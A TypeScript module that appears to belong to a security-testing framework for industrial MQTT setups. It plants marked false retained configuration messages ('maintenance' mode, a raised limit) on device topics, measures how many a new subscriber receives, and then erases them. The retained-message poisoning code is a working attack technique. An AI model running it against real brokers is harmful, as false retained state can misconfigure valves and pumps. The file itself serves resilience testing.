import type { Attack } from './attack.ts'
import { publish } from './packets.ts'

/** Leaves retained messages where others look for their configuration and state. Effect: what a fresh subscriber is given of them. */
export const retainedPoisoning: Attack = {
  name: 'retained-poisoning',
  technique: 'T0832',
  title: 'Leave false retained state for devices to come',
  expected: 'access',
  alone: false,
  seconds: () => 5,
  async run(range) {
    await range.proveAccess()
    const { marker } = range.mark()
    const topics = ['valve-1', 'level-2', 'pump-1', 'spare-1'].map(device => range.topic(device, 'config'))
    const payload = JSON.stringify({ trace: marker, mode: 'maintenance', high: 99 })
    const messages = topics.map((topic, i) =>
      publish(4, { topic, payload, retain: true, qos: i % 2 === 0 ? 0 : 1 }, i + 1),
    )
    // What it may leave must be found in the same way, or nothing found proves nothing.
    const own = range.topic(range.device, 'status')
    const legal = publish(4, { topic: own, payload: 'online', retain: true, qos: 1 }, messages.length + 1)
    const attempts = (await range.deliver(4, [legal, ...messages])) - 1
    const found = await range.observer.retained([...topics, own])
    await range.observer.erase([own])
    if (!found.has(own)) throw new Error('A legal retained message was not kept')
    const poisoned = [...found].filter(([, text]) => text.includes(marker)).map(([topic]) => topic)
    await range.observer.erase(poisoned)
    const detail = `a fresh subscriber was given ${poisoned.length} of ${attempts} false messages`
    return { attempts, effect: poisoned.length, detail }
  },
}
